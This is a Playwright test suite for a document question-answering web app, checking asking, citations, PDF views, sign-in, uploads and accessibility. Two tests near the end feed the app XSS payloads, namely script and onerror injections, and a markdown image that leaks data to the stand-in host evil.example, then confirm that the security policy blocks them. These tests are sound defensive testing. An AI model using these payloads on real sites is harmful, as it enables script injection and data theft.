"""The page in a real browser: Debian's Chromium, driven by Playwright, against the service on a free port."""

from __future__ import annotations

import json
import shutil
import subprocess
import tarfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest
from page_library import FILES, SURVEY_NAME, WATER, TableAnswerer, answer_id
from serving import served

from service.app import create_app
from service.ledger import Ledger
from service.settings import Settings

CHROMIUM = Path("/usr/bin/chromium")
FLAGS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
]  # fmt: skip
NITRATE = "How has nitrate changed in the wells?"
PHONE = {"width": 390, "height": 844}

if not CHROMIUM.exists():
    pytest.skip(f"there is no Chromium at {CHROMIUM}", allow_module_level=True)
playwright = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
expect = playwright.expect


@contextmanager
def serving(answerer: TableAnswerer) -> Iterator[str]:
    """Serve on a free port, with an empty ledger, for as long as the block runs; yields the address."""
    with TemporaryDirectory() as folder:
        ledger = Ledger.open(Path(folder))
        try:
            with served(create_app(answerer, Settings(), ledger)) as address:
                yield address
        finally:
            ledger.close()
            answerer.library.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright.sync_playwright() as driver:
        opened = driver.chromium.launch(executable_path=str(CHROMIUM), args=FLAGS)
        yield opened
        opened.close()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Four documents, one of them hostile, one a PDF. Only read here."""
    answerer = TableAnswerer(tmp_path_factory.mktemp("site") / "index", [*FILES, SURVEY_NAME])
    with serving(answerer) as address:
        yield address


@pytest.fixture
def open_page(browser: Any, site: str) -> Iterator[Any]:
    """Open a page in a browser of its own: `open_page("/", **context options)`.

    Unless `newest`, without the CSS property that scrolls to a mark by itself and that not every browser has.
    """
    contexts = []

    def without_property(route: Any) -> None:
        response = route.fetch()
        route.fulfill(response=response, body=response.text().replace("scroll-initial-target", "unknown"))

    def opened(path: str, address: str = site, *, newest: bool = False, **options: Any) -> Any:
        context = browser.new_context(base_url=address, **options)
        contexts.append(context)
        if not newest:
            context.route("**/static/style.css*", without_property)
        page = context.new_page()
        page.set_default_timeout(15_000)
        page.goto(path)
        return page

    yield opened
    for context in contexts:
        context.unroute_all(behavior="wait")  # a style sheet may still be on its way
        context.close()


def is_in_view(page: Any, selector: str) -> bool:
    """Whether the top of an element is within the window, and within the pane that scrolls it."""
    inside: bool = page.locator(selector).evaluate(
        """(element) => {
          const top = element.getBoundingClientRect().top;
          const pane = element.closest(".asked .text")?.getBoundingClientRect();
          return top >= (pane?.top ?? 0) && top < Math.min(innerHeight, pane?.bottom ?? innerHeight);
        }"""
    )
    return inside


# Asking


def test_a_question_is_answered_without_a_reload(open_page: Any) -> None:
    page = open_page("/")
    page.evaluate("window.stayed = true")
    page.get_by_label("Question").fill(NITRATE)
    page.keyboard.press("Enter")
    expect(page.locator("#answer .prose")).to_contain_text("has risen from 18 to 31 milligrams")
    expect(page.locator("#source #span-1")).to_have_text(
        "Nitrate in the Brook Wells has risen from 18 to 31 milligrams per litre in twelve years."
    )
    assert is_in_view(page, "#span-1")
    assert page.evaluate("window.stayed")
    assert "?q=How+has+nitrate" in page.url
    assert page.title().startswith(NITRATE)
    expect(page.locator("#announce")).to_contain_text("3 sources")
    page.go_back()
    expect(page.get_by_role("heading", name="Documents", exact=True)).to_be_visible()
    expect(page.get_by_label("Question")).to_have_value("")
    page.go_forward()
    expect(page.locator("#answer .prose")).to_contain_text("has risen from 18 to 31")


def test_a_new_line_is_typed_with_shift(open_page: Any) -> None:
    page = open_page("/")
    page.get_by_label("Question").fill("One")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("two")
    assert page.get_by_label("Question").input_value() == "One\ntwo"


def test_an_example_is_asked_by_a_click(open_page: Any) -> None:
    page = open_page("/")
    page.get_by_role("link", name="Opening hours and keys").click()
    expect(page.locator("#answer")).to_have_attribute("data-status", "not_in_document")
    expect(page.locator("#answer")).to_contain_text("The documents do not say.")
    page.get_by_role("link", name="What is measured, and how often").click()
    expect(page.locator("#span-1")).to_contain_text("Every source is sampled once a week")


def test_what_was_asked_is_remembered_until_forgotten(open_page: Any) -> None:
    page = open_page("/?q=readings")
    for question in (NITRATE, "weeks", NITRATE):
        page.get_by_label("Question").fill(question)
        page.keyboard.press("Enter")
        expect(page).to_have_title(f"{question} · Pincite")
    page.goto("/")
    expect(page.locator("#recent a")).to_have_text([NITRATE, "weeks", "readings"])
    page.locator("#recent a").nth(1).click()
    expect(page.locator("#answer")).to_contain_text("eleven weeks")
    page.goto("/")
    page.get_by_role("button", name="Forget these").click()
    expect(page.locator("#recent")).to_be_hidden()
    page.reload()
    expect(page.locator("#recent")).to_be_hidden()


def test_the_chosen_document_is_asked(open_page: Any) -> None:
    page = open_page("/")
    page.get_by_label("Ask only in Working at the Mill Archive").check()
    page.get_by_label("Question").fill("Who is the mayor?")
    page.get_by_role("button", name="Ask", exact=True).click()
    expect(page.locator("#answer")).to_contain_text("The document does not say.")
    expect(page.get_by_label("only in Working at the Mill Archive")).to_be_checked()


def test_a_server_that_is_gone_is_said(open_page: Any) -> None:
    page = open_page("/")
    page.route("**/?q=*", lambda route: route.abort())
    page.get_by_label("Question").fill(NITRATE)
    page.keyboard.press("Enter")
    expect(page.locator("#announce.seen")).to_have_text("The server does not answer. Is it still running?")


# Citations


def test_citations_open_by_click_key_and_arrow(open_page: Any) -> None:
    page = open_page(f"/?q={NITRATE}")
    mark, current = page.locator("#span-1"), page.locator(".citation[aria-current=true]")
    page.locator(".prose .ref").nth(2).click()
    expect(mark).to_contain_text("Spreading in spring")
    expect(current).to_have_attribute("data-number", "3")
    assert page.url.endswith("open=3")
    page.keyboard.press("1")
    expect(mark).to_contain_text("has risen")
    page.keyboard.press("ArrowRight")
    expect(mark).to_contain_text("The cause is known")
    page.keyboard.press("ArrowLeft")
    expect(mark).to_contain_text("has risen")
    page.locator(".quoted").nth(1).click()
    expect(mark).to_contain_text("The cause is known")
    expect(page.locator("#announce")).to_contain_text("Source: The Larkfield Water Report line 29")
    page.reload()
    expect(mark).to_contain_text("The cause is known")


def test_the_keyboard_reaches_and_leaves_everything(open_page: Any) -> None:
    page = open_page(f"/?q={NITRATE}")
    page.keyboard.press("/")
    expect(page.get_by_label("Question")).to_be_focused()
    page.keyboard.type("2/")
    assert page.get_by_label("Question").input_value() == "2/"
    expect(page.locator("#span-1")).to_contain_text("has risen")
    page.keyboard.press("Escape")
    expect(page.get_by_label("Question")).not_to_be_focused()
    page.keyboard.press("Escape")
    expect(page.locator("#source")).to_have_count(0)
    expect(page.locator(".prose .ref").first).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator("#span-1")).to_contain_text("has risen")


def test_single_keys_can_be_switched_off(open_page: Any) -> None:
    page = open_page("/")
    page.get_by_text("Keyboard", exact=True).click()
    page.get_by_label("Use these keys").uncheck()
    page.goto(f"/?q={NITRATE}")
    page.keyboard.press("2")
    page.keyboard.press("/")
    expect(page.get_by_label("Question")).not_to_be_focused()
    expect(page.locator("#span-1")).to_contain_text("has risen")


def test_a_repeated_place_and_each_span_can_be_opened(open_page: Any) -> None:
    page = open_page("/?q=weeks")
    page.get_by_role("link", name="line 11").click()
    expect(page.locator("#span-1")).to_have_text("The wells had to carry the town for eleven weeks.")
    page.get_by_label("Question").fill("readings")
    page.keyboard.press("Enter")
    expect(page.locator("#span-2")).to_have_text("more about the treatment than about the water.")
    page.locator(".spots a").nth(1).click()
    assert is_in_view(page, "#span-2")
    assert "?q=readings" in page.url


def test_a_quote_is_copied_with_its_reference(open_page: Any, site: str) -> None:
    page = open_page(f"/?q={NITRATE}", permissions=["clipboard-read", "clipboard-write"])
    page.get_by_role("button", name="Copy quote").nth(1).click()
    expect(page.get_by_role("button", name="Copied")).to_be_visible()
    words, reference, link = page.evaluate("navigator.clipboard.readText()").split("\n")
    assert (
        words
        == "“The cause is known: the fields upstream are manured in autumn, when no crop takes the nitrogen up.”"
    )
    assert reference == "(The Larkfield Water Report, Nitrate in the Brook Wells, line 29)"
    assert link.startswith(f"{site}/documents/")
    page.goto(link)
    expect(page.locator("mark")).to_have_text(words.strip("“”"))


def test_a_quote_is_copied_where_there_is_no_clipboard_to_write(open_page: Any, site: str) -> None:
    page = open_page(f"/?q={NITRATE}")
    page.evaluate("() => { navigator.clipboard.writeText = () => Promise.reject(new Error('insecure')); }")
    page.evaluate(
        "() => document.addEventListener('copy', () => { window.copied = getSelection().toString(); })"
    )
    page.get_by_role("button", name="Copy link").click()
    expect(page.get_by_role("button", name="Copied")).to_be_focused()
    copied = page.evaluate("window.copied")
    assert copied == f"{site}/answers/{answer_id(NITRATE)}"
    page.goto(copied)
    expect(page.locator("#answer .prose")).to_contain_text("has risen from 18 to 31")


# A page as a picture


@pytest.mark.parametrize("script", [True, False])
def test_the_page_of_a_pdf_is_drawn_with_its_cited_lines_marked(open_page: Any, script: bool) -> None:
    page = open_page("/?q=leaks&open=2", java_script_enabled=script, viewport={"width": 1280, "height": 500})
    picture = page.request.get(page.locator("#source image").get_attribute("href"))
    assert picture.body().startswith(b"\x89PNG")
    expect(page.locator("#source rect")).to_have_count(1)
    assert page.locator("#source image").bounding_box()["width"] > 500
    if script:
        assert is_in_view(page, "#span-1")
        page.get_by_role("link", name="page 2", exact=True).click()
        expect(page.get_by_role("img", name="Picture of page 2")).to_be_visible()
        page.locator(".views").get_by_role("link", name="Text").click()
        expect(page.locator("mark#span-1")).to_contain_text("Repairing them took three weeks")
        assert is_in_view(page, "#span-1")
        page.locator(".views").get_by_role("link", name="Page").click()
        expect(page.locator("#source rect")).to_have_count(1)
        assert page.url.endswith("?q=leaks&open=2")


@pytest.mark.parametrize("script", [True, False])
def test_a_link_to_a_place_in_a_pdf_scrolls_to_its_box(open_page: Any, script: bool) -> None:
    page = open_page("/?q=leaks", java_script_enabled=script, viewport={"width": 1280, "height": 420})
    link = page.locator(".citation .place").nth(1).get_attribute("href")
    page.goto(link)
    expect(page.locator("#span-1")).to_be_visible()
    assert page.evaluate("scrollY") > 100
    assert is_in_view(page, "#span-1")


# What people say


@pytest.mark.parametrize("script", [True, False])
def test_a_wrong_answer_is_said_to_be_wrong(open_page: Any, script: bool) -> None:
    page = open_page("/?q=weeks", java_script_enabled=script)
    page.locator(".feedback summary").click()
    page.get_by_label("What is wrong with it?").fill("It was nine weeks, 1 < 2.")
    page.get_by_role("button", name="Send").click()
    expect(page.locator("#feedback")).to_contain_text("Thank you. What was wrong is kept")
    assert page.url.endswith("?q=weeks") == script
    expect(page.locator("#answer .prose")).to_contain_text("eleven weeks")
    page.goto(f"/answers/{answer_id('weeks')}")
    page.get_by_role("button", name="Helpful", exact=True).click()
    expect(page.locator("#feedback")).to_contain_text("Thank you. That is kept.")


def test_a_permanent_link_works_without_a_script(open_page: Any) -> None:
    page = open_page("/?q=readings", java_script_enabled=False)
    page.get_by_role("link", name="Permanent link").click()
    expect(page.locator("#answer .notice")).to_contain_text("Every quote still stands in its source.")
    page.locator(".prose .ref").nth(1).click()
    expect(page.locator("mark")).to_have_text("All of them are kept for thirty years.")


# Keys


@pytest.mark.parametrize("script", [True, False])
def test_a_key_opens_the_page_where_the_visitor_wanted_to_go(
    open_page: Any, axe: str, tmp_path: Path, script: bool
) -> None:
    answerer = TableAnswerer(tmp_path / "index", ["water.md"])
    ledger = Ledger.open(tmp_path)
    _, token = ledger.add_key("Ann", "read")
    with served(create_app(answerer, Settings(), ledger)) as address:
        page = open_page("/?q=weeks", address, java_script_enabled=script)
        page.get_by_label("Key").fill("wrong")
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_role("alert")).to_be_visible()
        if script:
            page.evaluate(axe)
            assert page.evaluate("axe.run()")["violations"] == []
        page.get_by_label("Key").fill(token)
        page.get_by_role("button", name="Sign in").click()
        expect(page.locator("#answer .prose")).to_contain_text("eleven weeks")
        page.goto("/")
        if script:
            page.context.clear_cookies()
            page.get_by_label("Question").fill("weeks")
            page.keyboard.press("Enter")
        else:
            page.get_by_role("button", name="Sign out").click()
        expect(page.get_by_role("button", name="Sign in")).to_be_visible()
    ledger.close()
    answerer.library.close()


# Without a script


def test_everything_can_be_read_without_a_script(open_page: Any) -> None:
    page = open_page("/", java_script_enabled=False)
    assert page.get_by_role("button", name="Add documents").count() == 0
    expect(page.get_by_text("To add a document without JavaScript")).to_be_visible()
    page.get_by_label("Question").fill(NITRATE)
    page.get_by_role("button", name="Ask", exact=True).click()
    expect(page.locator("#answer .prose")).to_contain_text("has risen from 18 to 31")
    expect(page.get_by_role("button", name="Copy quote").first).to_be_hidden()
    page.locator(".prose .ref").nth(1).click()
    expect(page.locator("mark")).to_contain_text("The cause is known")
    assert is_in_view(page, "#span-1")


def test_the_pane_is_scrolled_without_a_script_where_the_browser_can(open_page: Any) -> None:
    page = open_page(
        "/?q=filter", newest=True, java_script_enabled=False, viewport={"width": 1280, "height": 420}
    )
    assert page.locator("#source .text").evaluate("(pane) => pane.scrollTop") > 100
    assert is_in_view(page, "#span-1")


@pytest.mark.parametrize("script", [True, False])
def test_a_link_to_offsets_scrolls_to_the_mark(open_page: Any, tmp_path: Path, script: bool) -> None:
    long = "\n\n".join(f"Paragraph {n} of a long report, which goes on." for n in range(900))
    answerer = TableAnswerer(tmp_path / "index", [])
    document_id = answerer.library.add(long.encode(), "long.txt").document.id
    start = long.index("Paragraph 700 ")
    with serving(answerer) as address:
        path = f"/documents/{document_id}?start={start}&end={start + 13}"
        page = open_page(path, address, java_script_enabled=script)
        expect(page.locator("mark")).to_have_text("Paragraph 700")
        assert page.evaluate("scrollY") > 2000
        assert is_in_view(page, "#span-1")


# Nothing leaves


def test_row_29_and_30_a_hostile_document_loads_runs_and_sends_nothing(open_page: Any, site: str) -> None:
    page = open_page("/")
    requests: list[str] = []
    noticed: list[str] = []
    page.context.on("request", lambda request: requests.append(request.url))
    page.on("dialog", lambda dialog: (noticed.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: noticed.append(str(error)))
    page.on("console", lambda message: noticed.append(message.text))
    page.goto("/?q=door")
    page.locator(".citation .place").nth(1).click()
    expect(page.locator("#span-1")).to_contain_text("</section></main><form")
    page.get_by_label("Question").fill('<img src="http://evil.example/q" onerror="alert(4)"> door')
    page.keyboard.press("Enter")
    expect(page.locator("#answer .prose")).to_contain_text("![pixel](http://evil.example/leak.png?d=secret)")
    page.goto("/")
    page.get_by_role("button", name="Remove").nth(2).click()
    expect(page.get_by_role("dialog")).to_contain_text('Remove "><script>alert(3)')
    page.get_by_role("button", name="Keep it").click()
    page.get_by_role("link", name='"><script>').click()
    expect(page.locator(".text")).to_contain_text("onerror=")
    assert noticed == []
    assert len(requests) > 8
    assert [url for url in requests if not url.startswith(site + "/")] == []


def test_row_30_the_policy_stops_what_would_slip_through(open_page: Any, site: str) -> None:
    page = open_page("/")
    arrived: list[str] = []
    failures: dict[str, str] = {}
    page.context.on("response", lambda response: arrived.append(response.url))
    page.context.on("requestfailed", lambda request: failures.update({request.url: request.failure}))
    blocked = page.evaluate(
        """async () => {
          const blocked = [];
          document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
          const script = document.createElement("script");
          try { script.textContent = "window.ran = true"; document.body.append(script); } catch { /* refused */ }
          const image = new Image();
          const loaded = new Promise((resolve) => { image.onload = image.onerror = resolve; });
          image.src = "http://evil.example/x.png";
          await Promise.allSettled([loaded, fetch("http://evil.example/")]);
          return blocked;
        }"""
    )
    assert set(blocked) == {"img-src", "require-trusted-types-for", "connect-src"}
    assert page.evaluate("window.ran") is None
    assert [url for url in arrived if not url.startswith(site + "/")] == []
    assert set(failures.values()) <= {"csp"}


# Adding and removing


def test_documents_are_added_and_removed(open_page: Any, tmp_path: Path) -> None:
    with serving(TableAnswerer(tmp_path / "index", ["archive.md"])) as address:
        page = open_page("/", address)
        titles = page.locator("#listed .title")
        expect(titles).to_have_text(["Working at the Mill Archive"])
        files = [
            {"name": "water.md", "mimeType": "text/markdown", "buffer": WATER.encode()},
            {"name": "empty.md", "mimeType": "text/markdown", "buffer": b""},
        ]
        page.get_by_label("Add documents").set_input_files(files)
        outcomes = page.locator("#uploads .outcome")
        expect(outcomes.nth(0)).to_have_text("Added")
        expect(outcomes.nth(1)).to_contain_text("'empty.md' is empty")
        expect(titles).to_have_text(["Working at the Mill Archive", "The Larkfield Water Report"])
        expect(page.get_by_role("link", name="Where the water comes from")).to_be_visible()

        page.get_by_role("button", name="Remove The Larkfield Water Report").click()
        page.get_by_role("button", name="Keep it").click()
        expect(titles).to_have_count(2)
        page.get_by_role("button", name="Remove The Larkfield Water Report").click()
        page.keyboard.press("Escape")
        expect(titles).to_have_count(2)
        page.get_by_role("button", name="Remove The Larkfield Water Report").click()
        page.get_by_role("button", name="Remove it").click()
        expect(titles).to_have_text(["Working at the Mill Archive"])
        expect(page.locator("#announce.seen")).to_have_text("Removed The Larkfield Water Report")


def test_the_bar_follows_a_document_that_takes_long(
    open_page: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    answerer = TableAnswerer(tmp_path / "index", ["archive.md"])
    embed, go_on = answerer.library.embedder.embed_passages, threading.Event()

    def slowly(texts: list[str], progress: Any = None) -> Any:
        progress(1, 4)
        assert go_on.wait(30)
        return embed(texts, progress)

    monkeypatch.setattr(answerer.library.embedder, "embed_passages", slowly)
    with serving(answerer) as address:
        page = open_page("/", address)
        page.get_by_label("Add documents").set_input_files(
            {"name": "water.md", "mimeType": "text/markdown", "buffer": WATER.encode()}
        )
        expect(page.get_by_label("Adding water.md")).to_have_js_property("value", 0.25)
        expect(page.locator("#uploads .outcome")).to_have_text("Reading and indexing")
        go_on.set()
        expect(page.locator("#uploads .outcome")).to_have_text("Added")
        expect(page.locator("#listed .title")).to_have_count(2)


def test_files_can_be_dropped_on_an_answer(open_page: Any, tmp_path: Path) -> None:
    with serving(TableAnswerer(tmp_path / "index", ["archive.md"])) as address:
        page = open_page("/?q=mayor", address)
        dropped = page.evaluate_handle(
            "(text) => { const data = new DataTransfer(); data.items.add(new File([text], 'water.md')); return data; }",
            WATER,
        )
        page.dispatch_event("body", "dragover", {"dataTransfer": dropped})
        expect(page.locator("body.dropping")).to_have_count(1)
        page.dispatch_event("body", "drop", {"dataTransfer": dropped})
        expect(page.locator("#uploads .outcome")).to_have_text("Added")
        expect(page.locator("#listed .title")).to_have_count(2)


# For everyone


@pytest.fixture(scope="session")
def axe(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The accessibility checker axe-core, from the npm registry."""
    npm, folder = shutil.which("npm"), tmp_path_factory.mktemp("axe")
    if npm is None:
        pytest.skip("npm is not installed, and axe-core comes from its registry")
    try:
        subprocess.run(
            [npm, "pack", "axe-core@4", "--silent"], cwd=folder, check=True, capture_output=True, timeout=120
        )
    except (subprocess.CalledProcessError, subprocess.TimeoutExpired) as error:
        pytest.skip(f"axe-core cannot be had from the npm registry: {error}")
    with tarfile.open(next(folder.glob("*.tgz"))) as archive:
        member = archive.extractfile("package/axe.min.js")
        assert member is not None
        return member.read().decode()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing(open_page: Any, axe: str, scheme: str) -> None:
    page = open_page("/", color_scheme=scheme, reduced_motion="reduce")
    document, pdf = (page.locator("#listed .title").nth(n).get_attribute("href") for n in (0, 3))
    found = {}
    for size in ({"width": 1280, "height": 800}, PHONE):
        page.set_viewport_size(size)
        for path in (
            "/",
            "/?q=nitrate",
            "/?q=readings",
            "/?q=filter",
            "/?q=mayor",
            "/?q=leaks",
            f"/answers/{answer_id('readings')}",
            f"{document}?span=2-12&version=0",
            f"{pdf}?page=1",
            pdf,
            "/documents/no",
            "/answers/no",
        ):
            page.goto(path)
            for summary in page.locator("summary").all():
                if summary.is_visible() and not summary.evaluate("(each) => each.parentElement.open"):
                    summary.click()
            page.evaluate(axe)
            result = page.evaluate("axe.run()")
            assert len(result["passes"]) > 10
            if result["violations"]:
                found[path, size["width"]] = [
                    (each["id"], [node["html"] for node in each["nodes"]]) for each in result["violations"]
                ]
    assert not found, json.dumps({str(key): value for key, value in found.items()}, indent=1)


@pytest.mark.parametrize("width", [320, 390, 820, 1440])
def test_nothing_is_wider_than_the_window(open_page: Any, width: int) -> None:
    page = open_page("/", viewport={"width": width, "height": 800})
    document = page.locator("#listed .title").nth(2).get_attribute("href")
    for path in ("/", "/?q=door", "/?q=readings", "/?q=mayor", "/?q=leaks", document, "/documents/no"):
        page.goto(path)
        assert page.evaluate("document.documentElement.scrollWidth") <= width, path


def test_on_a_phone_the_source_is_below_and_comes_into_view(open_page: Any) -> None:
    page = open_page(f"/?q={NITRATE}", viewport=PHONE, has_touch=True, is_mobile=True)
    answer, source = page.locator("#answer").bounding_box(), page.locator("#source").bounding_box()
    assert source["y"] >= answer["y"] + answer["height"]
    assert page.evaluate("scrollY") == 0
    page.locator(".citation .place").nth(1).tap()
    expect(page.locator("#span-1")).to_contain_text("The cause is known")
    assert is_in_view(page, "#span-1")


def test_on_a_wide_window_the_source_stands_beside_the_answer(open_page: Any) -> None:
    page = open_page(f"/?q={NITRATE}", viewport={"width": 1440, "height": 700})
    answer, source = page.locator("#answer").bounding_box(), page.locator("#source").bounding_box()
    assert source["x"] >= answer["x"] + answer["width"] - 1
    page.evaluate("scrollTo(0, 100000)")
    assert is_in_view(page, "#span-1")
